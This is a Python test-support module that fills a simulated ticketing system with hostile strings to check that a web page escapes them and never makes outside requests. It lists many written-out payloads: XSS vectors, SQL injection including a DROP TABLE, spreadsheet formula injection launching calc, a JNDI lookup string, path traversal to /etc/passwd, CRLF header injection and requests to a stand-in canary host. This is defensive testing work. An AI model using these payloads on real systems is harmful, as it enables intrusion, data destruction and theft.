"""Hostile texts of tickets, and requests that the page itself never sends."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from datetime import datetime
from itertools import cycle

from simulator.world import World
from tests.support.worlds import new_world

CANARY = "canary.invalid"  # no request may ever be sent to it
RUN = "window.__executed=(window.__executed||0)+1;alert(1)"
LEAK = f"https://{CANARY}/x"
MEGABYTE = 1_000_000

MARKUP = (
    f"<script>{RUN}</script>",
    f"<script src={LEAK}></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<ScRiPt >{RUN}</ScRiPt >",
    f"<img src=x onerror='{RUN}'>",
    f"<img src={LEAK}>",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f"<svg onload={RUN}>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<math href='javascript:{RUN}'>CLICK</math>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data={LEAK}></object><embed src={LEAK}>",
    f"<style>@import '{LEAK}';body{{display:none!important}}</style>",
    f"<link rel=stylesheet href={LEAK}>",
    f"<meta http-equiv=refresh content='0;url={LEAK}'>",
    f"<base href='https://{CANARY}/'>",
    f"<form action={LEAK}><input autofocus onfocus={RUN}><button>Log in again</button></form>",
    f"<details open ontoggle={RUN}>",
    f"<body onload={RUN}><video><source onerror={RUN}></video>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<select><style></select><img src=x onerror={RUN}></style>",
    f"<a href='javascript:{RUN}'>a</a><a href='data:text/html,<script>{RUN}</script>'>b</a>",
    f"<a href=vbscript:msgbox(1)>c</a><a href='jav&#x09;ascript:{RUN}'>d</a>",
    f"<xss style='xss:expression({RUN})' onclick={RUN} tabindex=1 id=x>focus</xss>",
    f"</textarea></title></select></option><script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"' onmouseover='{RUN}' x='",
    f"`-{RUN}-`",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    "<!-- never closed <b>",
    "<b><i><u><table><tr><td><div",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt; &#60;b&#62; &#x3c;b&#x3e; &NotAnEntity; &#1114112; &#0;",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"%3Cscript%3E{RUN}%3C/script%3E \\u003cscript\\u003e{RUN} \\x3cscript\\x3e",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"[click](javascript:{RUN}) ![x]({LEAK})",
    "<img name=body><img name=querySelector><form id=page><input name=textContent id=tickets></form>",
    "<a id=filters></a><a id=ticket name=getElementById></a>",
)
CODE = (
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {%raw%}{{config}}{%endraw%} [[${7*7}]] *{7*7}",
    "{{constructor.constructor('alert(1)')()}}",
    '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}',
    "__proto__",
    "constructor",
    "toString",
    "'; DROP TABLE psa.companies; --",
    '" OR ""="',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "%s%s%s%n {0.__class__.__mro__} $(id) `id` ; ls | cat",
    "${jndi:ldap://canary.invalid/a}",
    "../../../../etc/passwd\\..\\..\\win.ini",
    '\\"\\\\",}]{"a":"\\',
    "}body{display:none}/*",
    f"red;background:url({LEAK})",
    f"expression({RUN})",
    f"#fff;}}*{{background:url({LEAK})}}",
    "\r\nSet-Cookie: stolen=1\r\n\r\n<html>",
    "null",
    "undefined NaN Infinity -0 1e999 0x10",
    "\u0661\u0662\u0663 \u4e00\u4e8c \uff11\uff12 \u00bd \u2460",
)
CHARACTERS = (
    "nul \x00 in the middle",
    "controls " + "".join(map(chr, range(1, 32))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0))) + " end",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b[0m",
    "half of a pair \ud83d and \udc00 and \udfff\ud800 reversed",
    "\ufeffmark \ufffe \uffff \U0010ffff",
    "\u202egnp.exe\u202d invoice",
    "\u2066\u2067\u2068\u202a\u202b never popped",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea 123 abc \u200f",
    "zero\u200bwidth\u200c\u200d\u2060\ufeffjoiners\u00ad\u034f",
    "Z" + "\u0300\u0301\u0316\u0337\u0489" * 40 + "algo" + "\u0315\u0358\u0321" * 60,
    "\u2028line\u2029paragraph\x85next\x0bvertical\x0cform",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f1e9\U0001f1ea\U0001f3f4\U000e0067\U000e007f",
    "\ufdfd" * 30 + "\U00012031" * 10 + "\u2e3b" * 20,
    "\t\t \u3000\u00a0 \u2003",
    "line\n" * 60,
)
LONG = (
    "Donaudampfschifffahrtsgesellschaft" * 30,
    "WWWWWWWW\u00a0" * 100,
    "\U0001f4a5" * 10_000,
)
HUGE = ("x" * MEGABYTE, "a line of text\n" * (MEGABYTE // 15), "<div>" * (MEGABYTE // 5), "&lt" * (MEGABYTE // 3))
PAYLOADS = (*MARKUP, *CODE, *CHARACTERS, *LONG)

COLOURS = (f"red;background:url({LEAK})", "url(javascript:1)", "expression(1)", "#ff0000", "</style>", "var(--bg)")

# Nothing is called `zzq`: whoever gets a ticket for one of these has changed the question.
INJECTIONS = (
    'zzq" or id>0 or summary like "zzq',
    'zzq*" or "1"="1',
    "zzq' or '1'='1",
    "zzq) or (id>0",
    "zzq%' OR 1=1 --",
    "zzq&pageSize=1000&conditions=id>0",
    'zzq"}]},{"op":"gte","field":"id","value":0},{"a":"',
    "zzq\\",
    "*zzq*",
    "%zzq%",
    "zzq[a-z]^?",
    "zzq;DROP TABLE psa.companies",
    "zzq#fragment",
    "zzq/../../system/members",
    "zzq,Closed",
    f"https://{CANARY}/zzq",
    "zzq\u2028x\u202e",
    "zzq%0d%0aHost:%20" + CANARY,
)
# As the key of a ticket, a page, a board, a status, a priority, a company or a person.
MISUSED_KEYS = (
    *(f"https://{CANARY}/", f"//{CANARY}/", f"1@{CANARY}", f"1.{CANARY}", "file:///etc/passwd"),
    *(
        "../1",
        "1/../../system/members",
        "..%2f1",
        "1%2f..",
        "1/notes",
        "1?fields=x",
        "1#",
        "1;x",
        "1&a=b",
        "1,2",
        ".",
        "*",
    ),
    *(
        "1 or 1=1",
        '1" or "1"="1',
        "1' or '1'='1",
        "1)",
        "{id}",
        "$(id)",
        "-1",
        "+1",
        "1e3",
        "1.5",
        "0x10",
        "00001",
    ),
    *("9" * 40, "\uff11", "\u0661", " 1", "1 ", "project-", "project-0", "1-", "1-1-1", "1/1", "null", "true"),
    *("1\r\nHost: " + CANARY, "1\n", "1\x00", "\ud800", "x" * 301, "x" * 501),
)


def with_texts(world: World, *, texts: Iterator[str], names: Iterator[str] | None = None) -> World:
    """The world with other texts on its tickets and, where given, other names for all that tickets point at."""
    for one in list(world.tickets.values()):
        files = (next(texts), next(texts))
        world.tickets.add(
            replace(one, summary=next(texts), description=next(texts), contact_name=next(texts), attachments=files)
        )
    for said in list(world.notes.values()):
        world.notes.add(replace(said, text=next(texts)))
    for done in list(world.time_entries.values()):
        world.time_entries.add(replace(done, notes=next(texts)))
    return world if names is None else with_names(world, names)


def with_names(world: World, names: Iterator[str]) -> World:
    colours = cycle(COLOURS)
    for company in list(world.companies.values()):
        world.companies.add(replace(company, name=next(names)))
    for person in list(world.contacts.values()):
        world.contacts.add(replace(person, first_name=next(names), last_name=next(names)))
    for board in list(world.boards.values()):
        world.boards.add(replace(board, name=f"{board.id} {next(names)}"))
    for name in {step.name for step in world.board_statuses.values()} - {"Closed"}:
        other = next(names)
        for step in [step for step in world.board_statuses.values() if step.name == name]:
            world.board_statuses.add(replace(step, name=other))
    for priority in list(world.priorities.values()):
        world.priorities.add(replace(priority, name=f"{priority.id} {next(names)}", color=next(colours)))
    for member in list(world.members.values()):
        world.members.add(replace(member, first_name=next(names), last_name=next(names), identifier=next(names)))
    return world


def hostile_world(companies: int, now: datetime, *, start: int = 0) -> World:
    """A world of payloads; `start` is the one that its first ticket has."""
    payloads = PAYLOADS[start:] + PAYLOADS[:start]
    world = new_world(companies=companies, contacts=companies, tickets=len(PAYLOADS), tickets_now=now)
    return with_texts(world, texts=cycle(payloads), names=cycle(reversed(payloads)))
